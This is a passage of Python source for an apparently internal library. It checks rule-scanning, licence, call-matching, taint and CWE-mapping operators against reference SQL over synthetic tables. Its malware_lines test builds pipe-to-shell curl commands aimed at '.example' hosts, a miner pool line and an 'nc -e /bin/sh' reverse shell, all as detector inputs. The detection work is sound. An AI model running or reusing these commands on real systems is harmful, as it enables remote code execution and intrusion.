"""The library's operators on the supplied tables: scans, rules, calls, heaps, dependencies, services, reports."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from factloom.functions import masks, platform, risk, text
from factloom.operators import advisories, calls, dataflow, graph, heap, matching, os_advisories, rows, rulesets, system_graph, taint, text_rules
from factloom.plans import reports
from factloom.plans.conformance import EDGES_SQL, SINKS_SQL, query, trade_edges, trade_ends, values
from factloom.session import ship_lean, table
from factloom.sources import manifests


def files_of(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents as source files."""
    return table(spark, sf_dir, "documents").select(F.lit("text").alias("language"), F.col("doc_id").cast("string").alias("path"), F.col("text").alias("content"))


def pages_of(spark: SparkSession, sf_dir: str) -> DataFrame:
    ship_lean(spark)
    return table(spark, sf_dir, "pages").select(F.lit("html").alias("language"), F.col("page_id").cast("string").alias("path"), F.col("html").alias("content"))


# --- scans over text -------------------------------------------------------------------------------------------------
LINE_RULES = [("a word", "[Tt]h[a-z]+", "7$"), ("token", 'token = "[0-9a-f]{40}"', None), ("address", "[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+[.][A-Za-z]+", None), ("host", "[0-9]+[.][0-9]+[.][0-9]+[.][0-9]+", None), ("licence", "(MIT License|Apache License|GPL|[Cc]opyright)", None), ("shout", "[A-Z]{4,}!!", "[02468]$")]


@query(f"""
WITH l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) AS line_no FROM documents),
r(rule_id, pattern, places) AS (VALUES {values(LINE_RULES)}),
h AS (SELECT doc_id, line_no, rule_id, string_split(regexp_replace(line, pattern, chr(57344) || '\\0' || chr(57345), 'g'), chr(57344)) AS parts
FROM l JOIN r ON regexp_matches(line, pattern) AND (places IS NULL OR regexp_matches(CAST(doc_id AS VARCHAR), places))), x AS (SELECT *, unnest(range(2, len(parts) + 1)) AS k FROM h)
SELECT doc_id, line_no, rule_id, split_part(parts[k], chr(57345), 1) AS excerpt, CAST(length(replace(array_to_string(parts[1:k - 1], ''), chr(57345), '')) + 1 AS BIGINT) AS col FROM x
""")
def rule_scan_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Line rules over texts, one of them for some paths only."""
    rules = text_rules.rules_frame(spark, [{"id": i, "pattern": p, "view": "raw", "path_pattern": where} for i, p, where in LINE_RULES])
    return text_rules.scan(files_of(spark, sf_dir), rules).select(F.col("path").cast("long").alias("doc_id"), F.col("line").cast("long").alias("line_no"), "rule_id", F.col("match").alias("excerpt"), F.col("col").cast("long").alias("col"))


LICENCES = [("1 MIT", "MIT License"), ("2 Apache", "Apache License"), ("3 GPL", "GPL"), ("4 other", "[Cc]opyright")]


@query(f"""
WITH l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS line FROM documents)
SELECT doc_id, CASE {" ".join(f"WHEN regexp_matches(line, '{p}') THEN '{n}'" for n, p in LICENCES)} END AS licence, count(*) AS n_lines
FROM l WHERE regexp_matches(line, '{"|".join(p for _, p in LICENCES)}') GROUP BY ALL
""")
def license_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Licence lines by the first name that fits."""
    rules = text_rules.rules_frame(spark, [{"id": n, "pattern": p, "view": "raw"} for n, p in LICENCES])
    hits = text_rules.scan(files_of(spark, sf_dir), rules)
    first = rows.first_wins(hits.select("path", "line", "rule_id"), ["path", "line"], "rule_id")
    return first.groupBy(F.col("path").cast("long").alias("doc_id"), F.col("rule_id").alias("licence")).agg(F.count("*").alias("n_lines"))


@query(r"""
WITH a AS (SELECT doc_id, w, count(*) AS n FROM (SELECT doc_id, unnest(regexp_extract_all(lower(text), '[a-z]+')) AS w FROM documents) GROUP BY ALL),
b AS (SELECT item_id, w, count(*) AS m FROM (SELECT item_id, unnest(regexp_extract_all(lower(text), '[a-z]+')) AS w FROM benchmark) GROUP BY ALL),
na AS (SELECT doc_id, sqrt(sum(n * n)) AS norm_a FROM a GROUP BY doc_id), nb AS (SELECT item_id, sqrt(sum(m * m)) AS norm_b FROM b GROUP BY item_id),
s AS (SELECT doc_id, item_id, sum(n * m) / (any_value(norm_a) * any_value(norm_b)) AS score FROM a JOIN b USING (w) JOIN na USING (doc_id) JOIN nb USING (item_id) GROUP BY ALL)
SELECT doc_id, round(max(score), 4) AS score FROM s WHERE score >= 0.9 GROUP BY doc_id
""")
def licence_similarity(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Texts that are nearly one of the known texts, with their similarity."""
    corpus = table(spark, sf_dir, "benchmark").select(F.col("item_id").cast("string").alias("licence"), "text")
    return rulesets.licences(files_of(spark, sf_dir), corpus).select(F.col("path").cast("long").alias("doc_id"), "score")


@query("""
WITH t AS (SELECT page_id, unnest(regexp_extract_all(html, '(href|src)="([^"]*)"', 2)) AS target FROM pages)
SELECT page_id, target, count(*) AS n FROM t GROUP BY ALL
""")
def page_import_scan(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What pages refer to, as imports of a file."""
    return text_rules.references(table(spark, sf_dir, "pages"), "page_id", "html", '(href|src)="([^"]*)"', 2)


@query("""
WITH m AS (SELECT page_id, regexp_replace(html, '(?s)<!--.*?-->|<script[^>]*>.*?</script>', '', 'g') AS masked, html FROM pages)
SELECT page_id, len(regexp_extract_all(html, '<p>|</p>')) AS n_raw, len(regexp_extract_all(masked, '<p>|</p>')) AS n_masked, length(html) AS chars FROM m
""")
def lexical_mask_scan(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A pattern with and without comments and scripts; masks keep the length."""
    marks = lambda c: F.size(F.regexp_extract_all(c, F.lit("<p>|</p>"), 0)).cast("long")
    seen = pages_of(spark, sf_dir).withColumn("masked", masks.masked("language", "content"))
    return seen.select(F.col("path").cast("long").alias("page_id"), marks(F.col("content")).alias("n_raw"), marks(F.col("masked")).alias("n_masked"), F.length("masked").cast("long").alias("chars"))


@query("""
SELECT page_id, len(regexp_extract_all(html, '(?s)<!--.*?-->')) AS n FROM pages WHERE regexp_matches(html, '(?s)<!--.*?-->')
""")
def token_kind_scan(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Rules that look at comments only."""
    found = text_rules.scan_tokens(pages_of(spark, sf_dir), "comment", "^<!--")
    return found.groupBy(F.col("path").cast("long").alias("page_id")).agg(F.count("*").alias("n"))


@query("""
WITH o AS (SELECT doc_id, text, strpos(text, '@') AS pos FROM documents WHERE contains(text, '@')),
h AS (SELECT doc_id, pos, string_split(left(text, pos - 1), chr(10)) AS head FROM o)
SELECT doc_id, CAST(pos AS BIGINT) AS pos, CAST(len(head) AS BIGINT) AS line, CAST(length(head[-1]) + 1 AS BIGINT) AS col FROM h
""")
def offset_to_linecol(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The line and column of a text's first '@'."""
    at = F.instr("text", "@")
    line, col = masks.line_and_column(F.col("text"), at - 1)
    return table(spark, sf_dir, "documents").where(F.contains("text", F.lit("@"))).select("doc_id", at.cast("long").alias("pos"), line.cast("long").alias("line"), col.cast("long").alias("col"))


@query("""
WITH l AS (SELECT item_id, ('curl http://h' || item_id || '.example/x ' || CASE item_id % 3 WHEN 0 THEN '| sh' WHEN 1 THEN '> f' ELSE '|sudo bash' END) AS line FROM benchmark)
SELECT item_id, 'pipe-to-shell' AS rule_id, 'high' AS severity FROM l WHERE item_id % 3 <> 1 UNION ALL SELECT item_id, 'crypto-miner', 'high' FROM benchmark WHERE item_id % 5 = 0
UNION ALL SELECT item_id, 'reverse-shell', 'critical' FROM benchmark WHERE item_id % 7 = 0
""")
def malware_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Install scripts that open shells, run downloads, or mine."""
    i = F.col("item_id")
    end = F.when(i % 3 == 0, "| sh").when(i % 3 == 1, "> f").otherwise("|sudo bash")
    lines = F.concat_ws("\n", F.concat(F.lit("curl http://h"), i.cast("string"), F.lit(".example/x "), end), F.when(i % 5 == 0, "pool: stratum+tcp://p.example:1"), F.when(i % 7 == 0, "nc -e /bin/sh 10.0.0.1 4"))
    files = table(spark, sf_dir, "benchmark").select(i.cast("string").alias("path"), lines.alias("content"))
    return text_rules.malware(files).select(F.col("path").cast("long").alias("item_id"), "rule_id", "severity")


@query(r"""
WITH h AS (SELECT doc_id, string_split(regexp_replace(text, '(?:token|secret)\s+=\s+[\w.\[\]''"]+', chr(57344) || '\0' || chr(57345), 'g'), chr(57344)) AS parts FROM documents),
x AS (SELECT *, unnest(range(2, len(parts) + 1)) AS k FROM h), m AS (SELECT doc_id, split_part(parts[k], chr(57345), 1) AS match, len(string_split(array_to_string(parts[1:k - 1], ''), chr(10))) AS line FROM x)
SELECT doc_id, CAST(line AS INTEGER) AS line, match FROM m WHERE NOT regexp_matches(match, '"0')
""")
def search_patterns(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Code search by patterns with a metavariable: either of two, without one; every place of theirs."""
    found = text_rules.search(files_of(spark, sf_dir), ["token = $VALUE", "secret = $VALUE"], without_regex=['"0'])
    return found.select(F.col("path").cast("long").alias("doc_id"), "line", "match")


@query(r"""
WITH p AS (SELECT page_id, regexp_replace(html, '(?s)<!--.*?-->|<script[^>]*>.*?</script>', '', 'g') AS t FROM pages), n AS (SELECT page_id, unnest(regexp_extract_all(t, '(?s)<\s*nav\s*>.*?<\s*/\s*nav\s*>')) AS t FROM p)
SELECT page_id, m AS match, count(*) AS n FROM (SELECT page_id, unnest(regexp_extract_all(t, 'href\s*=\s*"\s*/\s*[\w.\[\]''"]+')) AS m FROM n) GROUP BY ALL
""")
def search_inside(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Search matches within the range of another pattern's match: addresses within a page's navigation."""
    found = text_rules.search(pages_of(spark, sf_dir), ['href="/$WHERE'], inside=["<nav>...</nav>"])
    return found.groupBy(F.col("path").cast("long").alias("page_id"), "match").agg(F.count("*").alias("n"))


@query("""
SELECT doc_id, CASE WHEN starts_with(text, 'The') THEN NULL WHEN starts_with(text, 'MZ') THEN 'pe' WHEN starts_with(text, '%PDF') THEN 'pdf' WHEN starts_with(text, 'BZh') THEN 'bzip2' WHEN starts_with(text, '!<arch') THEN 'ar' END AS kind, doc_id % 4 AS k,
CASE doc_id % 4 WHEN 0 THEN 'zip' WHEN 1 THEN 'gzip' WHEN 2 THEN 'elf' END AS stamped FROM documents
""")
def file_type_by_prefix(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Kinds by first bytes, of texts as they are and with the first bytes of archives and programs before them."""
    k = F.col("doc_id") % 4
    stamp = F.when(k == 0, "504B0304").when(k == 1, "1F8B").when(k == 2, "7F454C46").otherwise("")
    head = F.concat(F.unhex(stamp), F.encode("text", "utf-8"))
    stamped = F.when(k < 3, manifests.file_type(head))
    return table(spark, sf_dir, "documents").select("doc_id", manifests.file_type(F.encode("text", "utf-8")).alias("kind"), k.alias("k"), stamped.alias("stamped"))


@query("""
SELECT path, language FROM (SELECT 'src/' || p_partkey || CASE p_size % 5 WHEN 0 THEN '.py' WHEN 1 THEN '.java' WHEN 2 THEN '.tsx' WHEN 3 THEN '.md' ELSE '.h' END AS path, CASE p_size % 5 WHEN 0 THEN 'python' WHEN 1 THEN 'java' WHEN 2 THEN 'typescript' WHEN 4 THEN 'c' END AS language, p_size FROM part) WHERE language IS NOT NULL AND p_size % 7 <> 0
""")
def collected_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Source files by ending, without vendored ones."""
    size = F.col("p_size")
    ending = F.when(size % 5 == 0, ".py").when(size % 5 == 1, ".java").when(size % 5 == 2, ".tsx").when(size % 5 == 3, ".md").otherwise(".h")
    path = F.concat(F.when(size % 7 == 0, "vendor/").otherwise("src/"), F.col("p_partkey").cast("string"), ending)
    return manifests.by_language(table(spark, sf_dir, "part").select(path.alias("path"))).select("path", "language")


# --- rules over facts ------------------------------------------------------------------------------------------------
#: rule, exact, contains, pattern on the event's type, lowest and highest whole value
EVENT_RULES = [("exact_click", "click", None, None, None, None), ("contains_r", None, "r", None, None, None), ("regex_sign", None, None, "^s.*p$", 50, None), ("cheap_buy", "purchase", None, None, None, 10), ("any_large", None, None, None, 400, None), ("both", "view", "ie", "^v", 10, 20)]


@query(f"""
WITH r(rule_id, exact, part, pattern, lo, hi) AS (VALUES {values(EVENT_RULES)})
SELECT event_id, rule_id FROM events, r
WHERE (exact IS NULL OR event_type = exact) AND (part IS NULL OR contains(event_type, part)) AND (pattern IS NULL OR regexp_matches(event_type, pattern))
AND (lo IS NULL OR floor(value) >= lo) AND (hi IS NULL OR floor(value) <= hi)
""")
def matcher_theta_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Calls x rules: events as calls, their whole value as the number of arguments."""
    rules = matching.rules_frame(spark, [(i, None, matching.Matcher(exact=e, contains=c, regex=p, arg_count_min=lo, arg_count_max=hi)) for i, e, c, p, lo, hi in EVENT_RULES])
    known = {"func_id": F.col("event_id"), "callee_name": F.col("event_type"), "arg_count": F.floor("value").cast("int")}
    fields = [f.strip().split(" ", 1) for f in matching.CALL_DDL.split(", ")]
    events = table(spark, sf_dir, "events").select(*((known[n] if n in known else F.lit(None)).cast(t).alias(n) for n, t in fields))
    return matching.match_calls(events, rules).select(F.col("func_id").alias("event_id"), "rule_id")


@query(r"""
WITH r(rule_id, pattern) AS (VALUES ('two', '^(click|view)$'), ('opt', '^errors?$'), ('set', '^sign[ux]p$'))
SELECT event_id, rule_id FROM events JOIN r ON regexp_matches(event_type, pattern)
""")
def literal_pattern_index(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Patterns that mean a few texts become keys of an equi join."""
    rules = [("two", "^(click|view)$"), ("opt", "^errors?$"), ("set", "^sign[ux]p$")]
    keys = spark.createDataFrame([(i, t) for i, p in rules for t in rulesets.literals(p)], "rule_id string, event_type string")
    return table(spark, sf_dir, "events").join(F.broadcast(keys), "event_type").select("event_id", "rule_id")


@query("""
SELECT event_id, rule_id FROM (SELECT event_id, event_type, rule_id, unnest(callees) AS callee FROM events, (VALUES ('a', ['click', 'view', 'click']), ('b', ['purchase']), ('c', ['error', 'click'])) r(rule_id, callees)) WHERE callee = event_type GROUP BY ALL
""")
def call_rule_index(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Rules found by the callees that they name."""
    rules = spark.createDataFrame([("a", ["click", "view", "click"]), ("b", ["purchase"]), ("c", ["error", "click"])], "rule_id string, callees array<string>")
    return calls.by_callee(table(spark, sf_dir, "events").select(F.col("event_id").alias("call"), F.col("event_type").alias("callee")), rules).withColumnRenamed("call", "event_id")


@query("""
WITH r(rule_id, field, owner, pattern) AS (VALUES ('any', '*', NULL, '^Brand#1'), ('exact', '10', 'Brand#23', NULL), ('either', '20', 'Brand#31', '#4.$'), ('free', '30', NULL, NULL))
SELECT p_partkey AS access, rule_id FROM part JOIN r ON (field = '*' OR field = CAST(p_size AS VARCHAR)) AND ((owner IS NULL AND pattern IS NULL) OR coalesce(p_brand = owner, FALSE) OR coalesce(regexp_matches(p_brand, pattern), FALSE))
""")
def field_matcher(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Field accesses by name and owner types."""
    rules = spark.createDataFrame([("any", "*", None, "^Brand#1"), ("exact", "10", "Brand#23", None), ("either", "20", "Brand#31", "#4.$"), ("free", "30", None, None)], "rule_id string, field string, owner string, owner_regex string")
    accesses = table(spark, sf_dir, "part").select(F.col("p_partkey").alias("access"), F.col("p_size").cast("string").alias("field"), F.array("p_brand").alias("owners"))
    return calls.field_matches(accesses, rules)


@query("""
WITH r(rule_id, exact, part, pattern, n) AS (VALUES ('e', 'Brand#11', NULL, NULL, NULL), ('c', NULL, '#2', NULL, 5), ('r', NULL, NULL, '3$', 7), ('n', NULL, NULL, NULL, 49))
SELECT p_partkey AS function, rule_id FROM part JOIN r ON (exact IS NULL OR p_brand = exact) AND (part IS NULL OR contains(p_brand, part)) AND (pattern IS NULL OR regexp_matches(p_brand, pattern)) AND (n IS NULL OR p_size = n)
""")
def function_matcher(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Function definitions by name and number of parameters."""
    rules = spark.createDataFrame([("e", "Brand#11", None, None, None), ("c", None, "#2", None, 5), ("r", None, None, "3$", 7), ("n", None, None, None, 49)], "rule_id string, exact string, contains string, regex string, params int")
    functions = table(spark, sf_dir, "part").select(F.col("p_partkey").alias("function"), F.col("p_brand").alias("name"), F.col("p_size").alias("params"))
    return calls.function_matches(functions, rules)


@query("""
SELECT event_id FROM events WHERE (event_type = 'error' OR (event_type = 'view' AND NOT value > 100)) AND (user_id % 5 = 0 OR regexp_matches(event_type, '^v'))
""")
def taint_condition(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A condition tree over kinds, types and constants of arguments."""
    tree = ("all", [("any", [("has_kind", "error"), ("all", [("is_type", "arg0", "view"), ("not", ("is_constant", "arg1"))])]), ("any", [("value_matches", "receiver", "0"), ("is_type", "arg0", None, "^v")])])
    none = F.lit(None).cast("string")
    seen = table(spark, sf_dir, "events").select("event_id", F.array("event_type").alias("kinds"), F.array("event_type").alias("arg_types"), F.array(none, F.when(F.col("value") > 100, "big")).alias("arg_constants"), none.alias("receiver_type"), (F.col("user_id") % 5).cast("string").alias("receiver_constant"))
    return seen.where(matching.condition(tree)).select("event_id")


@query("""
WITH b AS (SELECT value > 100 AS big, event_type = 'view' AS view, CASE WHEN user_id % 4 <> 0 THEN event_type END AS os FROM events),
c AS (SELECT CASE WHEN big THEN TRUE WHEN view THEN FALSE END AS d, os FROM b)
SELECT CASE WHEN d AND os = 'click' THEN 'true' WHEN NOT (d AND os = 'click') THEN 'false' ELSE 'unknown' END AS all_of, CASE WHEN d OR os = 'click' THEN 'true' WHEN NOT (d OR os = 'click') THEN 'false' ELSE 'unknown' END AS any_of, CASE WHEN NOT d THEN 'true' WHEN d THEN 'false' ELSE 'unknown' END AS not_a, count(*) AS n FROM c GROUP BY ALL
""")
def three_valued_condition(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Platform conditions in three-valued logic: macros that are defined, known not to be, or unknown."""
    names = lambda when: F.array_compact(F.array(F.when(when, "BIG")))
    big = F.col("value") > 100
    given = (names(big), names(~big & (F.col("event_type") == "view")), F.when(F.col("user_id") % 4 != 0, F.col("event_type")), F.lit(None).cast("string"))
    define, os = ("define", "BIG"), ("os", "click")
    said = lambda tree: F.when(platform.column(tree, *given), "true").when(~platform.column(tree, *given), "false").otherwise("unknown")
    return table(spark, sf_dir, "events").groupBy(said(("all", [define, os])).alias("all_of"), said(("any", [define, os])).alias("any_of"), said(("not", define)).alias("not_a")).agg(F.count("*").alias("n"))


@query("""
WITH s AS (SELECT 'a' AS family, p_brand AS id, p_partkey AS v, 0 AS k FROM part UNION ALL SELECT 'a', p_brand, -p_partkey, 1 FROM part WHERE p_size < 3 UNION ALL SELECT 'b', p_brand, p_size, 1 FROM part WHERE p_size < 2),
l AS (SELECT *, row_number() OVER (PARTITION BY family, id ORDER BY k DESC, CASE WHEN k = 0 THEN v ELSE -abs(v) END DESC) AS n FROM (SELECT family, id, max(v) AS v, k FROM s WHERE k = 0 GROUP BY ALL UNION ALL SELECT family, id, min(v), k FROM s WHERE k = 1 AND family = 'a' GROUP BY ALL UNION ALL SELECT family, id, max(v), k FROM s WHERE family = 'b' GROUP BY ALL))
SELECT family, id, CAST(v AS BIGINT) AS v FROM l WHERE n = 1
""")
def rule_set_union(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Rule sets one after the other; later definitions of an id replace earlier ones."""
    parts = table(spark, sf_dir, "part")
    rule = lambda family, v: [F.lit(family).alias("family"), F.col("p_brand").alias("id"), v.cast("long").alias("v")]
    last = lambda rows_, v, pick: rows_.groupBy("p_brand").agg(pick(v).alias("x"))
    first = last(parts, "p_partkey", F.max).select(*rule("a", F.col("x")))
    second = last(parts.where("p_size < 3"), "p_partkey", F.max).select(*rule("a", -F.col("x"))).unionByName(last(parts.where("p_size < 2"), "p_size", F.max).select(*rule("b", F.col("x"))))
    return rulesets.merge(first, second)


@query("""
WITH RECURSIVE needs AS (SELECT DISTINCT CAST(l_partkey AS VARCHAR) AS id, CAST(l_partkey * 3 + l_suppkey % 3 AS VARCHAR) AS needed FROM lineitem),
r(node) AS (SELECT CAST(p_partkey AS VARCHAR) FROM part WHERE p_partkey IN (5, 10, 15) UNION SELECT needed FROM r JOIN needs ON id = node)
SELECT p_partkey FROM part WHERE CAST(p_partkey AS VARCHAR) IN (SELECT node FROM r)
""")
def rule_retention(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The wanted rules and what they need."""
    rules = table(spark, sf_dir, "part").select(F.col("p_partkey").cast("string").alias("id"), "p_partkey")
    needs = table(spark, sf_dir, "lineitem").select(F.col("l_partkey").cast("string").alias("id"), (F.col("l_partkey") * 3 + F.col("l_suppkey") % 3).cast("string").alias("needed"))
    return rulesets.retain(rules, needs, ["5", "10", "15"]).select("p_partkey")


KINDS = [("sqli", "CWE-89"), ("Shell", "CWE-78"), ("path_traversal", "CWE-22"), ("open_redirect", "CWE-601"), ("network", None), ("xmlparser", "CWE-611"), ("jndi", "CWE-74")]
CATEGORIES = [("safeSqlInjection", "CWE-89"), ("Security.Dataflow.CppCommandInjected", "CWE-78"), ("safePathManipulationZipEntryOverwrite", "CWE-22"), ("file permission", "CWE-732"), ("network", None), ("JSON-injection", "CWE-74"), ("weak_hash_in_use", "CWE-328")]


@query(f"""
WITH k(kind, weakness) AS (VALUES {values(KINDS)}), c(category, weakness_2) AS (VALUES {values(CATEGORIES)}), n AS (SELECT event_id, event_id % 7 AS i FROM events),
ki AS (SELECT *, row_number() OVER () - 1 AS i FROM k), ci AS (SELECT *, row_number() OVER () - 1 AS i FROM c)
SELECT event_id, weakness, weakness_2 FROM n JOIN ki USING (i) JOIN ci USING (i)
""")
def weakness_classes(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Weaknesses of sink kinds and of category texts."""
    pick = lambda xs: F.get(F.array(*(F.lit(x) for x, _ in xs)), (F.col("event_id") % 7).cast("int"))
    return table(spark, sf_dir, "events").select("event_id", rulesets.weakness(pick(KINDS)).alias("weakness"), rulesets.category_class(pick(CATEGORIES)).alias("weakness_2"))


@query("""
SELECT event_id, CASE WHEN event_type = 'error' THEN ' ' ELSE event_type END AS given, CASE WHEN event_type <> 'error' THEN event_type WHEN user_id % 3 = 0 THEN 'error' WHEN user_id % 3 = 1 THEN 'note' ELSE 'warning' END AS severity FROM events
""")
def severity_normalized(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Blank severities by the kind of the sink."""
    given = F.when(F.col("event_type") == "error", " ").otherwise(F.col("event_type"))
    kind = F.when(F.col("user_id") % 3 == 0, "critical").when(F.col("user_id") % 3 == 1, "info").otherwise("sql")
    return table(spark, sf_dir, "events").select("event_id", given.alias("given"), reports.normal_severity(given, kind).alias("severity"))


@query("""
WITH c AS (SELECT doc_id, trim(CASE WHEN lang = 'fr' THEN '' ELSE lang END) AS first, trim(CASE WHEN source = 'src1' THEN ' ' ELSE source END) AS second FROM documents)
SELECT doc_id, coalesce(nullif(first, ''), nullif(second, ''), 'none') AS shown FROM c
""")
def localized_text(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The wanted translation, else English, else what there is; blank ones don't count."""
    first, second = F.when(F.col("lang") == "fr", "").otherwise(F.col("lang")), F.when(F.col("source") == "src1", " ").otherwise(F.col("source"))
    texts = F.create_map(F.lit("zh"), first, F.lit("en"), second)
    return table(spark, sf_dir, "documents").select("doc_id", rulesets.localized(texts, "zh", F.lit("none")).alias("shown"))


# --- calls, types, order -----------------------------------------------------------------------------------------------
@query("""
WITH f AS (SELECT p_partkey, p_brand || '.' || p_size || '.m' || p_partkey % 3 AS q, p_size % 4 AS params, p_retailprice AS score FROM part),
c AS (SELECT event_id, CAST(event_id % 50 + 1 AS VARCHAR) || '.m' || event_id % 3 AS name, user_id % 4 AS arity FROM events),
m AS (SELECT event_id, p_partkey, CAST(arity = params AS INTEGER) AS fits, rank() OVER (PARTITION BY event_id ORDER BY CAST(arity = params AS INTEGER) DESC, score DESC, q, p_partkey) AS place FROM c JOIN f ON q LIKE '%.' || name)
SELECT event_id AS call, p_partkey AS function, fits, place FROM m WHERE place <= 2
""")
def overload_rank(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Call resolution by suffix names, with overloads ranked by arity and score."""
    functions = table(spark, sf_dir, "part").select(F.col("p_partkey").alias("function"), F.concat_ws(".", "p_brand", F.col("p_size").cast("string"), F.concat(F.lit("m"), (F.col("p_partkey") % 3).cast("string"))).alias("qualified"), (F.col("p_size") % 4).cast("long").alias("params"), F.col("p_retailprice").alias("score"))
    made = table(spark, sf_dir, "events").select(F.col("event_id").alias("call"), F.concat((F.col("event_id") % 50 + 1).cast("string"), F.lit(".m"), (F.col("event_id") % 3).cast("string")).alias("name"), (F.col("user_id") % 4).alias("arity"))
    return calls.resolve(made, functions, 2)


@query("""
WITH n AS (SELECT page_id, string_split(regexp_extract(url, '^[a-z]+://([^/?#]+)', 1), '.') AS a FROM pages)
SELECT page_id, unnest(list_transform(range(1, len(a) + 1), lambda i: array_to_string(a[i:len(a)], '.'))) AS name FROM n
""")
def candidate_names(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All suffixes of qualified names: hosts and their parent domains."""
    return table(spark, sf_dir, "pages").select("page_id", F.explode(calls.candidate_names(text.host(F.col("url")))).alias("name"))


@query("""
SELECT DISTINCT 'p' || l_partkey AS call, 'f' || c_custkey AS function FROM customer JOIN orders ON o_custkey = c_custkey JOIN lineitem ON l_orderkey = o_orderkey JOIN part ON p_partkey = l_partkey
""")
def dynamic_call_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Function values that reach calls: customers' along the trade graph to parts."""
    named = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
    functions = table(spark, sf_dir, "customer").select(named("c", "c_custkey").alias("node"), named("f", "c_custkey").alias("function"))
    callees = table(spark, sf_dir, "part").select(named("p", "p_partkey").alias("call"), named("p", "p_partkey").alias("node"))
    return calls.dynamic_calls(callees, functions, trade_edges(spark, sf_dir).where(~F.startswith("dst", F.lit("s"))))


@query("""
WITH a AS (SELECT l_orderkey AS call, l_linenumber AS place, CASE WHEN l_returnflag = 'R' THEN 'n' || l_linenumber % 2 END AS name, l_partkey AS value FROM lineitem),
named AS (SELECT call, CAST(replace(name, 'n', '') AS INTEGER) + 1 AS formal, arg_min(value, place) AS value, 0 AS how FROM a WHERE name IS NOT NULL GROUP BY call, name),
placed AS (SELECT call, place AS formal, arg_min(value, place) AS value, 1 AS how FROM a WHERE name IS NULL AND place <= 2 GROUP BY call, place),
bound AS (SELECT * FROM named UNION ALL SELECT * FROM placed p WHERE NOT EXISTS (SELECT 1 FROM named n WHERE n.call = p.call AND n.formal = p.formal)),
every AS (SELECT * FROM bound UNION ALL SELECT call, 9, value, 2 FROM a WHERE name IS NULL AND place > 2 UNION ALL SELECT call, 2, -1, 3 FROM (SELECT DISTINCT call FROM a) c WHERE NOT EXISTS (SELECT 1 FROM bound b WHERE b.call = c.call AND b.formal = 2))
SELECT how, formal, count(*) AS n, CAST(sum(value) AS BIGINT) AS total FROM every GROUP BY ALL
""")
def actual_formal_binding(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Arguments to parameters: by name, by place, the rest, and defaults. Of lines with one number the first in the table counts."""
    name = F.when(F.col("l_returnflag") == "R", F.concat(F.lit("n"), (F.col("l_linenumber") % 2).cast("string")))
    actuals = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("call"), F.lit(0).alias("function"), F.col("l_linenumber").alias("place"), name.alias("name"), F.col("l_partkey").alias("value"), F.struct("_metadata.file_path", "_metadata.row_index").alias("row"))
    formals = spark.createDataFrame([(0, 1, 1, "n0", False, None), (0, 2, 2, "n1", False, -1), (0, 9, 3, None, True, None)], "function int, formal int, place int, name string, rest boolean, default long")
    return calls.bind(actuals, formals, "row").groupBy("how", "formal").agg(F.count("*").alias("n"), F.sum("value").alias("total"))


@query("""
SELECT event_id, lead(event_id) OVER (PARTITION BY user_id ORDER BY event_id) IS NULL AS is_last, coalesce(max(CASE WHEN event_type = 'error' THEN event_id END) OVER (PARTITION BY user_id ORDER BY event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), -1) AS prior_error FROM events
""")
def prior_and_last_calls(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The latest matching earlier call of the same receiver, and whether a call is the last."""
    prior = calls.prior_match("user_id", "event_id", F.col("event_type") == "error")
    return table(spark, sf_dir, "events").select("event_id", calls.is_last("user_id", "event_id").alias("is_last"), F.coalesce(prior, F.lit(-1)).alias("prior_error"))


@query("""
WITH u AS (SELECT user_id, min(event_id) FILTER (event_type = 'signup') AS source, max(event_id) FILTER (event_type = 'purchase') AS sink FROM events GROUP BY user_id)
SELECT user_id, coalesce(source < sink, TRUE) AS feasible FROM u
""")
def temporal_feasible(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Whether a source event may come before a sink event; what isn't known is feasible."""
    return calls.temporally_feasible(table(spark, sf_dir, "events"), "user_id", "event_id", F.col("event_type") == "signup", F.col("event_type") == "purchase")


@query("""
WITH up AS (SELECT n_name AS sub, r_name AS super FROM nation JOIN region ON n_regionkey = r_regionkey UNION ALL SELECT r_name, 'WORLD' FROM region),
c AS (SELECT sub, super, 1 AS steps FROM up UNION ALL SELECT a.sub, b.super, 2 FROM up a JOIN up b ON a.super = b.sub UNION ALL SELECT DISTINCT n, n, 0 FROM (SELECT sub AS n FROM up UNION SELECT super FROM up)),
m AS (SELECT super, c_custkey, c_nationkey, steps FROM customer JOIN nation ON c_nationkey = n_nationkey JOIN c ON sub = n_name)
SELECT super, count(*) AS n_customers, count(DISTINCT c_nationkey) AS n_nations FROM m GROUP BY super
""")
